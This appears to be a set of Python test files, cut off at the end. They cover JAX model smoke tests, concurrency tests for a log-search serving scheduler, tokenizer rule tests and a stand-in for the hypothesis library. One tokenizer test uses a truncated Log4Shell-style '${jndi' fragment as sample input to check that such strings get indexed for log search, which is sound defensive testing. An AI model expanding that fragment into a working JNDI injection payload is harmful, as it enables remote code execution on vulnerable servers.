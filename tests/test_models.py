"""Per-arch smoke tests (deliverable f): every assigned architecture
instantiates its REDUCED config and runs one forward/train step on CPU,
asserting output shapes and finiteness.  Plus family-specific behaviour
tests (decode==prefill, MoE dispatch equivalence, capsule routing)."""
from dataclasses import replace

import numpy as np
import pytest

import jax
import jax.numpy as jnp

from repro import jax_compat
from repro.configs import ARCHS, get_arch
from repro.launch.steps import family_init, family_loss


@pytest.mark.parametrize("arch_id", sorted(ARCHS))
def test_arch_smoke_step(arch_id):
    """One loss+grad step on the reduced config: finite loss, finite
    grads, param shapes preserved."""
    spec = get_arch(arch_id)
    cfg = spec.smoke_config
    smoke_spec = replace(spec, config=cfg)
    params = family_init(spec, smoke=True)(jax.random.PRNGKey(0))
    batch = spec.smoke_batch(cfg, np.random.default_rng(0))
    loss_fn = family_loss(smoke_spec)
    loss, grads = jax.jit(jax.value_and_grad(loss_fn))(params, batch)
    assert np.isfinite(float(loss)), arch_id
    leaves = jax.tree.leaves(grads)
    assert leaves and all(bool(jnp.all(jnp.isfinite(g))) for g in leaves)
    # shapes preserved through one update
    for p, g in zip(jax.tree.leaves(params), leaves):
        assert p.shape == g.shape


def test_lm_decode_matches_prefill():
    from repro.models.transformer import (decode_step, init_cache,
                                          prefill)
    spec = get_arch("gemma2-9b")
    cfg = spec.smoke_config
    params = family_init(spec, smoke=True)(jax.random.PRNGKey(1))
    toks = jax.random.randint(jax.random.PRNGKey(2), (2, 24), 0, cfg.vocab)
    cache_p, logits_p = prefill(cfg, params, toks)
    full = init_cache(cfg, 2, 32, jnp.float32)
    full["k"] = full["k"].at[:, :, :24].set(cache_p["k"])
    full["v"] = full["v"].at[:, :, :24].set(cache_p["v"])
    nxt = jnp.argmax(logits_p, -1).astype(jnp.int32)
    _, _, logits_d = decode_step(cfg, params, full, nxt, 24)
    toks_ext = jnp.concatenate([toks, nxt[:, None]], 1)
    _, logits_p2 = prefill(cfg, params, toks_ext)
    np.testing.assert_allclose(np.asarray(logits_d),
                               np.asarray(logits_p2), rtol=2e-4, atol=2e-4)


def test_moe_sharded_equals_global_on_unit_mesh():
    """shard_map expert dispatch == global sort dispatch when the expert
    axis has size 1 (same capacity semantics)."""
    from repro.models.moe import moe_ffn, moe_ffn_sharded
    rng = jax.random.PRNGKey(0)
    t, d, e, f = 64, 16, 8, 32
    ks = jax.random.split(rng, 5)
    x = jax.random.normal(ks[0], (t, d), jnp.float32)
    w = {"router": jax.random.normal(ks[1], (d, e)) * 0.1,
         "w_gate": jax.random.normal(ks[2], (e, d, f)) * 0.1,
         "w_up": jax.random.normal(ks[3], (e, d, f)) * 0.1,
         "w_down": jax.random.normal(ks[4], (e, f, d)) * 0.1}
    y_ref, aux_ref = moe_ffn(x, w, n_experts=e, top_k=2,
                             capacity_factor=8.0)  # no drops
    mesh = jax.make_mesh((1, 1), ("data", "model"))
    with mesh, jax_compat.set_mesh(mesh):
        y_sm, aux_sm = jax.jit(lambda x, w: moe_ffn_sharded(
            x, w, n_experts=e, top_k=2, capacity_factor=8.0,
            batch_axes=("data",), expert_axis="model",
            expert_parallel=1))(x, w)
    np.testing.assert_allclose(np.asarray(y_ref), np.asarray(y_sm),
                               rtol=1e-5, atol=1e-5)
    np.testing.assert_allclose(float(aux_ref), float(aux_sm), rtol=1e-5)


def test_sliding_window_masks_old_positions():
    """A local-attention layer must ignore tokens beyond the window."""
    from repro.models.attention import blockwise_attention
    rng = jax.random.PRNGKey(0)
    b, s, h, dh = 1, 32, 2, 8
    q = jax.random.normal(rng, (b, s, h, dh))
    k = jax.random.normal(jax.random.PRNGKey(1), (b, s, h, dh))
    v = jax.random.normal(jax.random.PRNGKey(2), (b, s, h, dh))
    out_w = blockwise_attention(q, k, v, causal=True, window=4,
                                q_chunk=8, kv_chunk=8)
    # perturb a key far outside every query's window: no output change
    k2 = k.at[:, 0].add(100.0)
    v2 = v.at[:, 0].add(100.0)
    out_w2 = blockwise_attention(q, k2, v2, causal=True, window=4,
                                 q_chunk=8, kv_chunk=8)
    np.testing.assert_allclose(np.asarray(out_w[:, 8:]),
                               np.asarray(out_w2[:, 8:]), atol=1e-5)


def test_blockwise_equals_naive_attention():
    from repro.models.attention import blockwise_attention
    rng = jax.random.PRNGKey(3)
    b, s, hq, hkv, dh = 2, 40, 4, 2, 8
    q = jax.random.normal(rng, (b, s, hq, dh))
    k = jax.random.normal(jax.random.PRNGKey(4), (b, s, hkv, dh))
    v = jax.random.normal(jax.random.PRNGKey(5), (b, s, hkv, dh))
    out = blockwise_attention(q, k, v, causal=True, q_chunk=16, kv_chunk=8)
    # naive reference
    from repro.models.attention import repeat_kv
    kk, vv = repeat_kv(k, 2), repeat_kv(v, 2)
    sc = jnp.einsum("bqhd,bkhd->bhqk", q, kk) / np.sqrt(dh)
    mask = jnp.tril(jnp.ones((s, s), bool))
    sc = jnp.where(mask[None, None], sc, -1e30)
    want = jnp.einsum("bhqk,bkhd->bqhd", jax.nn.softmax(sc, -1), vv)
    np.testing.assert_allclose(np.asarray(out), np.asarray(want),
                               rtol=2e-5, atol=2e-5)


def test_gnn_permutation_invariance():
    """segment_sum aggregation: permuting edge order never changes the
    output (sum aggregator property)."""
    from repro.models import gnn
    cfg = get_arch("meshgraphnet").smoke_config
    params = gnn.init_params(cfg, jax.random.PRNGKey(0))
    g = get_arch("meshgraphnet").smoke_batch(cfg, np.random.default_rng(1))
    out1 = gnn.forward(cfg, params, g)
    perm = np.random.default_rng(2).permutation(g["senders"].shape[0])
    g2 = dict(g)
    for k in ("edges", "senders", "receivers", "edge_mask"):
        g2[k] = g[k][perm]
    out2 = gnn.forward(cfg, params, g2)
    np.testing.assert_allclose(np.asarray(out1), np.asarray(out2),
                               rtol=1e-4, atol=1e-5)


def test_neighbor_sampler_validity():
    from repro.models.gnn import neighbor_sample
    rng = np.random.default_rng(0)
    n = 50
    indptr = np.arange(0, 4 * (n + 1), 4)
    indices = rng.integers(0, n, 4 * n)
    nodes, snd, rcv = neighbor_sample(indptr, indices, [0, 1], [3, 2], rng)
    assert set(nodes[:2]) == {0, 1}
    assert snd.max(initial=0) < len(nodes)
    assert rcv.max(initial=0) < len(nodes)
    # every sampled edge exists in the CSR graph
    for s, r in zip(snd[:20], rcv[:20]):
        u, v = int(nodes[r]), int(nodes[s])
        assert v in indices[indptr[u]:indptr[u + 1]]


def test_mind_interests_shape_and_squash():
    from repro.models import recsys
    cfg = get_arch("mind").smoke_config
    params = recsys.mind_init(cfg, jax.random.PRNGKey(0))
    seq = jnp.asarray(np.random.default_rng(0).integers(
        1, cfg.n_items, (4, cfg.seq_len)), jnp.int32)
    u = recsys.mind_interests(cfg, params, seq)
    assert u.shape == (4, cfg.n_interests, cfg.embed_dim)
    assert bool(jnp.all(jnp.isfinite(u)))


def test_twotower_inbatch_loss_decreases():
    from repro.models import recsys
    from repro.optim.adam import AdamConfig, adam_update, init_adam
    cfg = get_arch("two-tower-retrieval").smoke_config
    spec = get_arch("two-tower-retrieval")
    params = recsys.twotower_init(cfg, jax.random.PRNGKey(0))
    opt = init_adam(params)
    ocfg = AdamConfig(lr=3e-3, warmup_steps=1)
    batch = spec.smoke_batch(cfg, np.random.default_rng(0))

    @jax.jit
    def step(params, opt):
        (l, _), g = jax.value_and_grad(
            lambda p: recsys.twotower_loss(cfg, p, batch),
            has_aux=True)(params)
        params, opt, _ = adam_update(ocfg, params, g, opt)
        return params, opt, l

    losses = []
    for _ in range(30):
        params, opt, l = step(params, opt)
        losses.append(float(l))
    assert losses[-1] < losses[0], losses[:3] + losses[-3:]


def test_seq_parallel_attention_equivalence():
    """It. 7 (EXPERIMENTS.md §Perf): sequence-parallel attention core ==
    blockwise attention, including causal offsets across shards."""
    import os
    from repro.models.attention import (blockwise_attention,
                                        seq_parallel_attention)
    b, s, hq, hkv, dh = 2, 64, 7, 1, 8   # non-divisible heads (arctic-like)
    q = jax.random.normal(jax.random.PRNGKey(0), (b, s, hq, dh))
    k = jax.random.normal(jax.random.PRNGKey(1), (b, s, hkv, dh))
    v = jax.random.normal(jax.random.PRNGKey(2), (b, s, hkv, dh))
    want = blockwise_attention(q, k, v, causal=True, q_chunk=16,
                               kv_chunk=16)
    mesh = jax.make_mesh((1, 1), ("data", "model"))
    with mesh, jax_compat.set_mesh(mesh):
        got = jax.jit(lambda q, k, v: seq_parallel_attention(
            q, k, v, batch_axes=("data",), model_axis="model",
            causal=True, q_chunk=16, kv_chunk=16))(q, k, v)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want),
                               rtol=1e-5, atol=1e-6)
