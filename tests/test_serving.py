"""Wave-coalescing serving front end: the concurrency test battery.

The contract under test (ISSUE 9):
  * answers served through coalesced waves are BIT-IDENTICAL to direct
    ``query_fps_batch`` calls, under N concurrent client threads;
  * a lone straggler is flushed by the deadline trigger, a full group
    by the size trigger, and everything pending by ``close()`` (drain);
  * padding to the supported bucket sizes round-trips: a wave of ``n``
    pads up to the smallest covering bucket and unpads on completion;
  * admission control BLOCKS ``submit()`` at ``max_pending`` — it never
    drops a query — and ``max_live_waves`` bounds concurrent waves;
  * waves route round-robin over engine replicas with identical
    results; an engine error fails its wave's tickets but the
    scheduler keeps serving;
  * the measured cost model (``benchmarks/query_throughput.py``) keeps
    its machine-readable shape and drives the host-vs-device decision;
  * a :class:`StoreServer` snapshotting a live durable store answers
    every query consistently with SOME published prefix, through
    writer progress, ``refresh()`` races, and a writer crash
    (``core.faults``), and recovery converges.

Run via ``make test-serving`` (1 device + the forced 8-way host mesh).
Every blocking call has an explicit timeout — a hung scheduler fails,
it cannot hang CI.
"""
import threading
import time

import numpy as np
import pytest

from repro.core import faults
from repro.core.serving import (COST_MODEL_FORMAT, CostModel, StoreServer,
                                WaveScheduler)
from repro.core.tokenizer import term_query_tokens
from repro.logstore.store import DynaWarpStore, ScanStore

TIMEOUT = 120           # ceiling for any single blocking wait
KW = dict(batch_lines=64, mode="segmented", memory_limit_bytes=1 << 14,
          auto_compact=False)

#: Force the scalar host path (no jit tracing — fast for logic tests).
HOST_MODEL = CostModel(host_us_per_query=1.0,
                       device_us_per_wave={8: 1e9})
#: Force the device wave path (tests that must exercise padding).
DEVICE_MODEL = CostModel(host_us_per_query=1e9,
                         device_us_per_wave={8: 1.0})


@pytest.fixture(scope="module")
def store(small_dataset):
    s = DynaWarpStore(**KW)
    s.ingest(small_dataset.lines)
    s.finish()
    return s


@pytest.fixture(scope="module")
def scan_oracle(small_dataset):
    s = ScanStore(batch_lines=64)
    s.ingest(small_dataset.lines)
    s.finish()
    return s


@pytest.fixture(scope="module")
def queries(small_dataset):
    """(terms, token_lists) — a mix of present IDs and common words."""
    from repro.logstore.datasets import id_queries, present_id_queries
    terms = present_id_queries(small_dataset, 3, 8) \
        + id_queries(5, 2) + ["info", "connection"]
    return terms, [term_query_tokens(t) for t in terms]


@pytest.fixture(scope="module")
def truth(store, queries):
    _, token_lists = queries
    return [np.asarray(r, np.int64)
            for r in store.engine.query_batch(token_lists, op="and")]


def _same(results, expect):
    return all(np.array_equal(np.asarray(r, np.int64), e)
               for r, e in zip(results, expect))


# ------------------------------------------------------------- cost model
def test_cost_model_decision_and_roundtrip(tmp_path):
    m = CostModel(host_us_per_query=100.0,
                  device_us_per_wave={8: 1000.0, 32: 2000.0})
    # bucket lookup: smallest covering bucket; extrapolation past top
    assert m.device_wave_us(4) == 1000.0
    assert m.device_wave_us(8) == 1000.0
    assert m.device_wave_us(9) == 2000.0
    assert m.device_wave_us(64) == pytest.approx(4000.0)
    # n * host <= wave(bucket) -> host
    assert m.prefer_host(8, 8)          # 800 <= 1000
    assert not m.prefer_host(11, 8)     # 1100 > 1000
    assert m.prefer_host(20, 32)        # 2000 <= 2000 (tie -> host)
    # dict + file round-trip
    m2 = CostModel.from_dict(m.to_dict())
    assert m2.host_us_per_query == m.host_us_per_query
    assert m2.device_us_per_wave == m.device_us_per_wave
    p = tmp_path / "cm.json"
    p.write_text(__import__("json").dumps(m.to_dict()))
    assert CostModel.load(str(p)).device_us_per_wave == m.device_us_per_wave
    with pytest.raises(ValueError):
        CostModel.from_dict({"format": COST_MODEL_FORMAT + 1,
                             "host_us_per_query": 1,
                             "device_us_per_wave": {"8": 1}})
    with pytest.raises(ValueError):
        CostModel(device_us_per_wave={})


def test_cost_model_measurement_shape(store, queries):
    """Satellite: ``measure_dispatch_costs`` must keep emitting the
    machine-readable shape ``CostModel.from_dict`` consumes — this is
    the regression fence for the benchmarks -> serving handshake."""
    from benchmarks.query_throughput import measure_dispatch_costs
    _, token_lists = queries
    model = measure_dispatch_costs(store.engine, token_lists[:4],
                                   buckets=(8,), reps=1, host_samples=4)
    assert model["format"] == COST_MODEL_FORMAT
    assert model["host_us_per_query"] > 0
    assert set(model["device_us_per_wave"]) == {"8"}
    assert all(v > 0 for v in model["device_us_per_wave"].values())
    assert model["n_segments"] == len(store.engine.segments)
    cm = CostModel.from_dict(model)
    assert isinstance(cm.prefer_host(1, 8), (bool, np.bool_))


# ------------------------------------------------------------ equivalence
def test_concurrent_clients_bit_identical(store, queries, truth):
    """8 client threads hammer one scheduler; every answer must equal
    the direct engine wave, and queries must actually coalesce."""
    _, token_lists = queries
    n_clients, per_client = 8, 20
    sched = WaveScheduler([store.engine], flush_deadline_s=0.02,
                          max_live_waves=2, cost_model=HOST_MODEL)
    errors: list = []

    def client(ci):
        rng = np.random.default_rng(ci)
        for _ in range(per_client):
            qi = int(rng.integers(len(token_lists)))
            r = sched.query(token_lists[qi], timeout=TIMEOUT)
            if not np.array_equal(np.asarray(r, np.int64), truth[qi]):
                errors.append(qi)
    try:
        threads = [threading.Thread(target=client, args=(ci,), daemon=True)
                   for ci in range(n_clients)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=TIMEOUT)
            assert not t.is_alive(), "client thread hung"
    finally:
        sched.close()
    assert not errors
    st = sched.stats()
    assert st.submitted == st.completed == n_clients * per_client
    assert st.failed == 0
    # coalescing happened: far fewer waves than queries
    assert st.waves < st.completed / 2, (st.waves, st.completed)
    assert st.max_wave > 1


def test_device_wave_bit_identical_with_padding(store, queries, truth):
    """The device path: one scheduler, buckets (4, 8), forced device
    model.  Waves of 1/3/4/5/7/8 queries pad to the smallest covering
    bucket, unpad on completion, and stay bit-identical."""
    _, token_lists = queries
    # same token count -> same (op, T-bucket) group, one jit entry per Q
    t_len = len(token_lists[0])
    same_t = [tl for tl in token_lists if len(tl) == t_len]
    idx = [i for i, tl in enumerate(token_lists) if len(tl) == t_len]
    assert len(same_t) >= 4
    sched = WaveScheduler([store.engine], bucket_sizes=(4, 8),
                          flush_deadline_s=0.05, max_live_waves=1,
                          cost_model=DEVICE_MODEL)
    try:
        padded = 0
        for n in (1, 3, 4, 5, 7, 8):
            wave = [same_t[i % len(same_t)] for i in range(n)]
            expect = [truth[idx[i % len(same_t)]] for i in range(n)]
            tickets = [sched.submit(tl) for tl in wave]
            results = [t.wait(TIMEOUT) for t in tickets]
            assert _same(results, expect), f"wave n={n} diverged"
            assert all(t.via == "device" for t in tickets)
            bucket = 4 if n <= 4 else 8
            padded += bucket - n
        st = sched.stats()
        assert st.device_waves >= 6 and st.host_waves == 0
        assert st.padded_slots == padded, (st.padded_slots, padded)
    finally:
        sched.close()


def test_replica_routing_identical(store, queries, truth):
    """Waves round-robin over clone replicas; results don't depend on
    which replica served them."""
    _, token_lists = queries
    sched = WaveScheduler([store.engine, store.engine.clone()],
                          flush_deadline_s=0.001, max_live_waves=2,
                          cost_model=HOST_MODEL)
    try:
        for _ in range(4):          # several wave generations
            results = sched.query_batch(token_lists, timeout=TIMEOUT)
            assert _same(results, truth)
            time.sleep(0.005)       # let the deadline cut new waves
        st = sched.stats()
        assert set(st.replica_waves) == {0, 1}, st.replica_waves
        assert all(v > 0 for v in st.replica_waves.values())
    finally:
        sched.close()


# ---------------------------------------------------------- flush triggers
def test_deadline_flush_serves_lone_straggler(store, queries, truth):
    _, token_lists = queries
    sched = WaveScheduler([store.engine], flush_deadline_s=0.2,
                          cost_model=HOST_MODEL)
    try:
        t0 = time.monotonic()
        r = sched.query(token_lists[0], timeout=TIMEOUT)
        dt = time.monotonic() - t0
    finally:
        sched.close()
    assert np.array_equal(np.asarray(r, np.int64), truth[0])
    # not before the deadline, not unboundedly after it
    assert 0.15 <= dt <= 5.0, dt
    st = sched.stats()
    assert st.deadline_flushes == 1 and st.size_flushes == 0


def test_size_flush_fires_without_deadline(store, queries, truth):
    """A group reaching the largest bucket flushes immediately even
    with an (effectively) infinite deadline."""
    _, token_lists = queries
    t_len = len(token_lists[0])
    same = [(i, tl) for i, tl in enumerate(token_lists)
            if len(tl) == t_len][:2]
    sched = WaveScheduler([store.engine], bucket_sizes=(2,),
                          flush_deadline_s=60.0, cost_model=HOST_MODEL)
    try:
        tickets = [sched.submit(tl) for _i, tl in same]
        results = [t.wait(TIMEOUT) for t in tickets]
        assert _same(results, [truth[i] for i, _ in same])
        assert sched.stats().size_flushes >= 1
    finally:
        sched.close()


def test_close_drains_pending_and_rejects_new(store, queries, truth):
    """close() flushes everything still queued as drain waves; nothing
    is lost, and later submits raise instead of hanging."""
    _, token_lists = queries
    sched = WaveScheduler([store.engine], flush_deadline_s=60.0,
                          max_live_waves=1, cost_model=HOST_MODEL)
    tickets = [sched.submit(tl) for tl in token_lists]
    sched.close(timeout=TIMEOUT)
    results = [t.wait(TIMEOUT) for t in tickets]
    assert _same(results, truth)
    st = sched.stats()
    assert st.completed == len(token_lists)
    assert st.drain_flushes >= 1
    with pytest.raises(RuntimeError):
        sched.submit(token_lists[0])


# -------------------------------------------------------------- admission
class _GateEngine:
    """Stub engine whose host path blocks on a gate — lets tests hold a
    wave in flight deterministically."""

    def __init__(self):
        self.gate = threading.Event()
        self.calls = 0

    def host_query(self, fps, op="and"):
        self.gate.wait(TIMEOUT)
        self.calls += 1
        return np.asarray(sorted(fps), np.int64)

    def query_fps_batch(self, fps_lists, op="and"):
        return [self.host_query(fps, op=op) for fps in fps_lists]


def test_admission_blocks_submit_never_drops():
    eng = _GateEngine()
    sched = WaveScheduler([eng], flush_deadline_s=0.001,
                          max_live_waves=1, max_pending=2,
                          cost_model=HOST_MODEL)
    try:
        first = sched.submit([1])          # flushes, blocks on the gate
        time.sleep(0.05)                   # let it become in-flight
        backlog = [sched.submit([2]), sched.submit([3])]  # fills pending
        extra = []
        blocked = threading.Thread(
            target=lambda: extra.append(sched.submit([4])), daemon=True)
        blocked.start()
        blocked.join(timeout=0.3)
        assert blocked.is_alive(), "submit should BLOCK at max_pending"
        assert not extra                   # ...and must not have dropped
        eng.gate.set()                     # free the in-flight wave
        blocked.join(timeout=TIMEOUT)
        assert not blocked.is_alive()
        for t in [first] + backlog + extra:
            t.wait(TIMEOUT)                # every query answered
        st = sched.stats()
        assert st.submitted == st.completed == 4
        assert st.failed == 0
    finally:
        eng.gate.set()
        sched.close()


def test_max_live_waves_bounds_concurrency():
    """With max_live_waves=1 a second wave never starts while the first
    is in flight — arrivals keep coalescing instead."""
    eng = _GateEngine()
    sched = WaveScheduler([eng], flush_deadline_s=0.001,
                          max_live_waves=1, cost_model=HOST_MODEL)
    try:
        t1 = sched.submit([1])
        time.sleep(0.05)                   # wave 1 in flight, gated
        later = [sched.submit([i]) for i in range(2, 8)]
        time.sleep(0.1)                    # deadlines long expired...
        assert eng.calls == 0              # ...but nothing else ran
        eng.gate.set()
        t1.wait(TIMEOUT)
        rs = [t.wait(TIMEOUT) for t in later]
        assert all(r is not None for r in rs)
        st = sched.stats()
        # the held-back queries coalesced into few big waves
        assert st.waves <= 3, st.waves
        assert st.max_wave >= len(later)
    finally:
        eng.gate.set()
        sched.close()


class _FlakyEngine(_GateEngine):
    def __init__(self):
        super().__init__()
        self.gate.set()
        self.fail_next = True

    def host_query(self, fps, op="and"):
        if self.fail_next:
            self.fail_next = False
            raise RuntimeError("injected engine failure")
        return super().host_query(fps, op=op)


def test_engine_error_fails_wave_but_scheduler_survives():
    eng = _FlakyEngine()
    sched = WaveScheduler([eng], flush_deadline_s=0.001,
                          cost_model=HOST_MODEL)
    try:
        bad = sched.submit([1])
        with pytest.raises(RuntimeError, match="injected"):
            bad.wait(TIMEOUT)
        good = sched.query([2], timeout=TIMEOUT)   # still serving
        assert np.array_equal(good, np.asarray([2], np.int64))
        st = sched.stats()
        assert st.failed >= 1 and st.completed >= 1
    finally:
        sched.close()


# ------------------------------------------------- serving during live ingest
def _consistent_with_some_prefix(batch, truth_lines, total):
    """Every term's matches must be a prefix of its full-truth matches,
    and one common cut line L must explain the whole batch (the batch
    was answered against ONE captured view)."""
    lo, hi = 0, total
    for matches, full in zip(batch, truth_lines):
        if matches != full[:len(matches)]:
            return False
        lo = max(lo, matches[-1] + 1 if matches else 0)
        hi = min(hi, full[len(matches)] if len(matches) < len(full)
                 else total)
    return lo <= hi


def test_store_server_refresh_consistent_under_live_ingest(
        small_dataset, scan_oracle, tmp_path, queries):
    """Satellite: writer ingests a durable store (publish-per-spill)
    while reader threads query a StoreServer and race refresh(); every
    batched answer must be consistent with some published prefix, and
    the final refreshed answers must be the full truth."""
    terms, _ = queries
    terms = terms[:6]
    truth_lines = [scan_oracle.query_term(t).matches for t in terms]
    total = len(small_dataset.lines)
    d = str(tmp_path / "live")
    s = DynaWarpStore(**KW, path=d)
    s.ingest(small_dataset.lines[:200])    # a first published prefix
    server = s.serving(n_replicas=2, flush_deadline_s=0.005,
                       cost_model=HOST_MODEL)
    errors: list = []
    checks = [0]
    done = threading.Event()

    def reader(ci):
        while not done.is_set() or checks[0] == 0:
            server.refresh()
            try:
                batch = [r.matches
                         for r in server.query_term_batch(
                             terms, timeout=TIMEOUT)]
            except Exception as e:   # pragma: no cover - failure path
                errors.append(repr(e))
                return
            if not _consistent_with_some_prefix(batch, truth_lines,
                                                total):
                errors.append(("inconsistent", ci))
                return
            checks[0] += 1

    readers = [threading.Thread(target=reader, args=(ci,), daemon=True)
               for ci in range(2)]
    for rt in readers:
        rt.start()
    try:
        for i in range(200, total, 100):
            s.ingest(small_dataset.lines[i:i + 100])
        s.finish()
    finally:
        done.set()
        for rt in readers:
            rt.join(timeout=TIMEOUT)
            assert not rt.is_alive(), "reader thread hung"
    assert not errors, errors[:3]
    assert checks[0] > 0
    server.refresh()     # no-op if a reader already saw the final view
    assert server.view.n_lines == total    # final view: the whole store
    final = [r.matches for r in server.query_term_batch(terms,
                                                        timeout=TIMEOUT)]
    assert final == truth_lines
    server.close()
    s.close()


def test_server_survives_writer_crash_then_recovery_converges(
        small_dataset, scan_oracle, tmp_path, queries):
    """Satellite: kill the writer at a manifest publish mid-ingest
    (core.faults).  The server must keep answering over the last good
    published prefix; DynaWarpStore.open() recovery + reopen-for-append
    then converges to the full truth through a fresh server."""
    terms, _ = queries
    terms = terms[:5]
    truth_lines = [scan_oracle.query_term(t).matches for t in terms]
    total = len(small_dataset.lines)
    d = str(tmp_path / "crashy")
    s = DynaWarpStore(**KW, path=d)

    crashed = threading.Event()

    def writer():
        try:
            with faults.inject(crash_at="manifest.replace", after=2):
                s.ingest(small_dataset.lines)
                s.finish()
        except faults.CrashError:
            crashed.set()

    wt = threading.Thread(target=writer, daemon=True)
    wt.start()
    assert crashed.wait(TIMEOUT), "writer never hit the crashpoint"
    wt.join(timeout=TIMEOUT)

    server = s.serving(flush_deadline_s=0.005, cost_model=HOST_MODEL)
    server.refresh()                        # view_fn may fail: last good
    batch = [r.matches for r in server.query_term_batch(terms,
                                                        timeout=TIMEOUT)]
    assert _consistent_with_some_prefix(batch, truth_lines, total)
    served_lines = server.view.n_lines
    assert 0 < served_lines < total        # a real, partial prefix
    server.close()
    s.blobs.close()                        # the dead writer's fd

    re = DynaWarpStore.open(d)             # crash recovery
    assert re._n_lines >= served_lines     # published prefix survived
    re.ingest(small_dataset.lines[re._n_lines:])
    re.finish()
    server2 = re.serving(flush_deadline_s=0.005, cost_model=HOST_MODEL)
    final = [r.matches for r in server2.query_term_batch(
        terms, timeout=TIMEOUT)]
    assert final == truth_lines
    server2.close()
    re.close()


@pytest.mark.parametrize("shard_axes", [None, ("data",)],
                         ids=["engine", "sharded"])
def test_store_server_matches_store_answers(small_dataset, queries,
                                            shard_axes):
    """StoreServer answers == the store's own query_term/contains/batch
    on a finished store, for the single-device and sharded engines."""
    s = DynaWarpStore(**KW, shard_axes=shard_axes)
    s.ingest(small_dataset.lines[:600])
    s.finish()
    terms, _ = queries
    terms = terms[:4] + ["info"]
    server = s.serving(n_replicas=2, flush_deadline_s=0.005,
                       cost_model=HOST_MODEL)
    try:
        for t in terms:
            assert server.query_term(t, timeout=TIMEOUT).matches \
                == s.query_term(t).matches, t
        sub = terms[0][2:10]
        assert server.query_contains(sub, timeout=TIMEOUT).matches \
            == s.query_contains(sub).matches
        got = server.query_term_batch(terms, timeout=TIMEOUT)
        want = s.query_term_batch(terms)
        assert [r.matches for r in got] == [r.matches for r in want]
    finally:
        server.close()
