"""Tokenization rules 1-8 (paper §5.1.1)."""
import numpy as np
from hypothesis import given, settings, strategies as st

from repro.core.tokenizer import (contains_query_tokens, pack_tokens,
                                  term_query_tokens, tokenize_line)


def test_rules_examples():
    toks = tokenize_line("WARNING: name@company 192.0.0.1 äöü ${jndi")
    # rule 1: alnum sequences
    assert b"warning" in toks
    # rule 4: separator-joined pair
    assert b"name@company" in toks
    # rule 5: three dot-joined alnum tokens
    assert b"192.0.0" in toks
    # rule 6: 3-grams of alnum tokens
    for g in (b"war", b"arn", b"rni", b"nin", b"ing"):
        assert g in toks
    # rule 7: non-alnum 1/2/3-grams  (the Log4Shell "${" case)
    assert b"$" in toks and b"${" in toks
    # rule 8: non-ascii 2-grams
    assert "äö".encode() in toks


def test_ngram_rule6_exact():
    toks = tokenize_line("warning", ngrams=True)
    grams = {t for t in toks if len(t) == 3}
    expect = {b"war", b"arn", b"rni", b"nin", b"ing"}
    assert expect <= grams


@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126),
               min_size=0, max_size=120))
@settings(max_examples=80, deadline=None)
def test_contains_tokens_subset_of_indexed(line):
    """Every contains-query n-gram of an indexed substring must have been
    indexed — the zero-false-negative prerequisite."""
    indexed = tokenize_line(line, ngrams=True)
    # pick a random-ish substring
    if len(line) >= 6:
        sub = line[1:-1]
        for t in contains_query_tokens(sub):
            assert t in indexed, (t, sub)


def test_term_query_tokens_roundtrip():
    assert b"restart" in term_query_tokens("Restart")
    assert term_query_tokens("192.0.0") == [b"192.0.0"]


def test_pack_tokens_shapes():
    toks = [b"abc", b"de", b"f" * 64]
    packed, lens = pack_tokens(toks, max_len=32)
    assert packed.shape == (3, 32)
    assert list(lens) == [3, 2, 32]
    assert bytes(packed[0, :3]) == b"abc"
    assert (packed[0, 3:] == 0).all()
