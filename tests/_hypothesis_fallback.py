"""Minimal stand-in for `hypothesis` when it is not installed.

The seed container ships without hypothesis, which made the whole suite
fail at collection.  Rather than skipping every property test, this
module implements the tiny subset the tests use — ``given``, ``settings``
and the ``binary`` / ``integers`` / ``lists`` / ``sets`` strategies — as a
deterministic seeded sampler.  With the real hypothesis installed
(see requirements-dev.txt) conftest.py never loads this module.
"""
from __future__ import annotations

import functools
import inspect
import itertools
import zlib

import numpy as np

DEFAULT_MAX_EXAMPLES = 25


class _Strategy:
    """A strategy is just `draw(rng) -> value` plus boundary examples."""

    def __init__(self, draw, boundary=()):
        self._draw = draw
        self._boundary = tuple(boundary)

    def draw(self, rng):
        return self._draw(rng)

    def boundary(self):
        return self._boundary


class strategies:
    """Namespace mirroring ``hypothesis.strategies`` (``st.`` alias)."""

    @staticmethod
    def integers(min_value=0, max_value=1 << 30):
        return _Strategy(
            lambda rng: int(rng.integers(min_value, max_value + 1)),
            boundary=(min_value, max_value))

    @staticmethod
    def binary(min_size=0, max_size=64):
        def draw(rng):
            n = int(rng.integers(min_size, max_size + 1))
            return rng.integers(0, 256, n).astype(np.uint8).tobytes()
        return _Strategy(draw, boundary=(b"\x00" * min_size,))

    @staticmethod
    def lists(elements, min_size=0, max_size=32, unique=False):
        def draw(rng):
            n = int(rng.integers(min_size, max_size + 1))
            out, seen = [], set()
            # bounded retry loop keeps uniqueness without hanging on tiny
            # domains; give up after 50 misses and return what we have
            misses = 0
            while len(out) < n and misses < 50:
                v = elements.draw(rng)
                if unique and v in seen:
                    misses += 1
                    continue
                seen.add(v)
                out.append(v)
            return out if len(out) >= min_size else out + [elements.draw(rng)
                                                           for _ in range(min_size - len(out))]
        return _Strategy(draw)

    @staticmethod
    def characters(min_codepoint=32, max_codepoint=126, **_kw):
        return _Strategy(
            lambda rng: chr(int(rng.integers(min_codepoint,
                                             max_codepoint + 1))),
            boundary=(chr(min_codepoint), chr(max_codepoint)))

    @staticmethod
    def text(alphabet=None, min_size=0, max_size=64):
        if alphabet is None:
            alphabet = strategies.characters()

        def draw(rng):
            n = int(rng.integers(min_size, max_size + 1))
            return "".join(alphabet.draw(rng) for _ in range(n))
        return _Strategy(draw, boundary=("",) if min_size == 0 else ())

    @staticmethod
    def sets(elements, min_size=0, max_size=32):
        def draw(rng):
            n = int(rng.integers(min_size, max_size + 1))
            out = set()
            misses = 0
            while len(out) < n and misses < 200:
                before = len(out)
                out.add(elements.draw(rng))
                misses += before == len(out)
            return out
        return _Strategy(draw)


def settings(max_examples=DEFAULT_MAX_EXAMPLES, deadline=None, **_kw):
    def deco(fn):
        fn._fallback_max_examples = max_examples
        return fn
    return deco


def given(*strats):
    def deco(fn):
        n_examples = getattr(fn, "_fallback_max_examples",
                             DEFAULT_MAX_EXAMPLES)

        @functools.wraps(fn)
        def wrapper(*args, **kwargs):
            # crc32, not hash(): str hash is salted per process and would
            # make "deterministic" draws unreproducible across runs
            rng = np.random.default_rng(
